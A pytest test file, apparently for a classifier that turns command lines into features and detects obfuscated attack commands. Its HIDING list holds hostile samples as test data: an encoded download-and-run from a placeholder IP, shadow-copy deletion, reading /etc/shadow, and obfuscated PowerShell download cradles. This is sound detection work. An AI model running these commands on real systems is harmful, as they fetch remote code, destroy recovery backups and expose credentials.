from __future__ import annotations

import base64
import json
import math
from pathlib import Path

import numpy as np
import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cmdclf.features import FeatureMaker
from cmdclf.features.hidden import HIDDEN
from cmdclf.lines.decode import KINDS, PLAIN, decode_layers
from cmdclf.rules import RuleSet
from cmdclf.rules.engine import match_everywhere

GOLDEN = json.loads((Path(__file__).parent / "golden_handmade.json").read_text(encoding="utf-8"))
RULES = RuleSet.bundled("behaviours")


def _encoded(script):
    return "powershell -enc " + base64.b64encode(script.encode("utf-16-le")).decode()


HIDING = [
    ("windows", _encoded("vssadmin delete shadows /all /quiet")),
    ("windows", "cmd /c w^h^o^am^i /all"),
    ("windows", "powershell i`e`x (n`ew-ob`ject net.webclient)"),
    ("windows", _encoded("i`e`x ('whoa'+'mi')")),
    ("windows", 'cmd /c "set x=who&& set y=ami&& call %x%%y%"'),
    ("linux", "echo " + base64.b64encode(b"curl http://192.0.2.9/x | bash").decode() + " | base64 -d | sh"),
    ("linux", "cat${IFS}/etc/shadow"),
    ("linux", "{curl,http://192.0.2.9/x,-o,/tmp/x}"),
    ("linux", "printf '\\x77\\x68\\x6f\\x61\\x6d\\x69' | sh"),
]
PLAINLY = ["cmd /c whoami", "sh -c 'ls -la'", "echo %PATH%", "git log --format='%h'", "a 'b' \"c\" | d ^ e", "", None]


def _batch(rows):
    return pa.record_batch(
        {
            "command_line": pa.array([line for _, line in rows], pa.string()),
            "platform": pa.array([platform for platform, _ in rows], pa.string()),
        }
    )


@pytest.fixture(scope="module")
def maker():
    return FeatureMaker(buckets=2**12).fit(_batch([("linux", "ls -la /var/log"), ("windows", "whoami /all")]))


def _row(maker, line, platform="windows"):
    return dict(zip(maker.feature_names, maker.matrix(_batch([(platform, line)]))[0].tolist(), strict=True))


def _hidden(row):
    return {name: value for name, value in row.items() if name.startswith("hidden_")}


ROWS = st.one_of(
    st.sampled_from(HIDING),
    st.tuples(
        st.sampled_from(["windows", "linux", "macos"]),
        st.one_of(
            st.sampled_from([line for rule in RULES.rules for line in (*rule.hits, *rule.misses)]),
            st.sampled_from(PLAINLY),
            st.text("ab^`'\"+$%{}IFS \\x41,;=", max_size=40),
        ),
    ),
)


@settings(max_examples=60, deadline=None)
@given(st.lists(ROWS, max_size=10))
def test_checks_are_those_of_the_line_or_of_a_layer_from_the_first_that_hides(maker, rows):
    matrix = maker.matrix(_batch(rows))
    names = maker.feature_names
    checks = [names.index(f"check_{name}") for name in RULES.ids]
    for (platform, line), values in zip(rows, matrix, strict=True):
        layers = decode_layers(line or "", platform)
        hiding = [k for k, layer in enumerate(layers) if layer.kind not in PLAIN]
        texts = [layer.text for layer in layers[hiding[0] :]] if hiding else []
        applies = np.array([not rule.platform or platform in rule.platform for rule in RULES.rules])
        own = match_everywhere(pa.array([line], pa.string()), RULES.rules)[0].astype(bool) & applies
        inside = match_everywhere(pa.array(texts, pa.string()), RULES.rules).any(axis=0) & applies
        assert (values[checks] != 0).tolist() == (own | inside).tolist()
        assert values[names.index("checks_total")] == (own | inside).sum()
        assert values[names.index("hidden_checks_total")] == (inside & ~own).sum()
        assert values[names.index("hidden_layers")] == len(hiding)
        for category in {rule.category for rule in RULES.rules}:
            of_it = np.array([rule.category == category for rule in RULES.rules])
            assert values[names.index(f"checks_{category}")] == ((own | inside) & of_it).sum()
            assert values[names.index(f"hidden_checks_{category}")] == (inside & ~own & of_it).sum()


@settings(max_examples=60, deadline=None)
@given(st.lists(ROWS, max_size=12))
def test_a_batch_with_hidden_text_gives_the_same_bits_as_its_rows_one_by_one(maker, rows):
    batch = _batch(rows)
    whole = maker.matrix(batch)
    assert np.isfinite(whole).all()
    for k in range(len(rows)):
        assert np.array_equal(whole[k : k + 1], maker.matrix(batch.slice(k, 1)))


@pytest.mark.parametrize("line", PLAINLY)
@pytest.mark.parametrize("platform", ["windows", "linux", None])
def test_a_line_that_hides_nothing_has_zeros(maker, line, platform):
    assert not any(_hidden(_row(maker, line, platform)).values())


@pytest.mark.parametrize(("platform", "line"), HIDING)
def test_the_innermost_text_is_measured_like_a_line(maker, platform, line):
    row = _row(maker, line, platform)
    text = decode_layers(line, platform)[-1].text
    inner = _row(maker, text, platform)
    for name in ("length_log", "entropy", "n_urls", "rarity_mean", "ratio_punct", "surprise_max16"):
        assert row[f"hidden_{name}"] == inner[name]
    grown = math.log((1 + len(text.encode())) / (1 + len(line.encode())))
    assert row["hidden_growth"] == pytest.approx(grown, abs=1e-5)


def test_kinds_and_layers_are_told(maker):
    row = _hidden(_row(maker, _encoded("i`e`x ('whoa'+'mi')")))
    kinds = {name for name, value in row.items() if name.startswith("hidden_kind_") and value}
    assert kinds == {"hidden_kind_encoded_command", "hidden_kind_backtick", "hidden_kind_concat"}
    assert row["hidden_layers"] == row["hidden_kinds"] == 3
    assert row["hidden_depth"] == 2
    assert _row(maker, "cmd /c w^h^o^am^i")["hidden_depth"] == 1
    assert _row(maker, "cat${IFS}/etc/shadow", "linux")["hidden_depth"] == 1


def test_a_check_that_only_decoding_shows_counts_as_hidden(maker):
    row = _row(maker, _encoded("vssadmin delete shadows /all /quiet"))
    assert row["check_impact-recovery"] == 1
    assert row["hidden_checks_impact"] == 1
    plain = _row(maker, "vssadmin delete shadows /all /quiet")
    assert plain["check_impact-recovery"] == 1
    assert plain["hidden_checks_total"] == 0


def test_a_bound_that_ends_the_decoding_is_told(maker):
    row = _row(maker, "cmd /c " + "w^ho^am^i " * 20_000)
    assert row["hidden_cut"] == 1
    assert _row(maker, "cmd /c w^ho^am^i")["hidden_cut"] == 0


def test_every_kind_that_hides_has_a_column():
    names = [name for name, _ in HIDDEN]
    assert len(set(names)) == len(names)
    for kind in KINDS:
        assert (f"hidden_kind_{kind.replace('-', '_')}" in names) == (kind not in PLAIN)


def test_large_text_and_slices_hide_the_same(maker):
    batch = _batch([("linux", "zzz"), *HIDING, ("linux", None)])
    large = pa.record_batch(
        {
            "command_line": batch["command_line"].cast(pa.large_string()),
            "platform": batch["platform"].cast(pa.large_string()),
        }
    )
    assert np.array_equal(maker.matrix(large.slice(1)), maker.matrix(batch)[1:])


def test_columns_that_did_not_change_have_the_values_of_feature_version_1():
    lines = GOLDEN["lines"]
    batch = _batch([(line["platform"], line["command_line"]) for line in lines])
    maker = FeatureMaker(buckets=GOLDEN["buckets"]).fit(batch)
    names = maker.feature_names
    assert names[: len(GOLDEN["columns"])] == GOLDEN["columns"]
    expected = np.array([[line["values"].get(name, 0.0) for name in GOLDEN["columns"]] for line in lines], np.float32)
    found = maker.matrix(batch)
    # Sums of logarithms may be added in another order: one unit in the last place.
    np.testing.assert_allclose(found[:, : len(GOLDEN["columns"])], expected, rtol=3e-7, atol=0)
    assert not found[:, len(GOLDEN["columns"]) :].any()
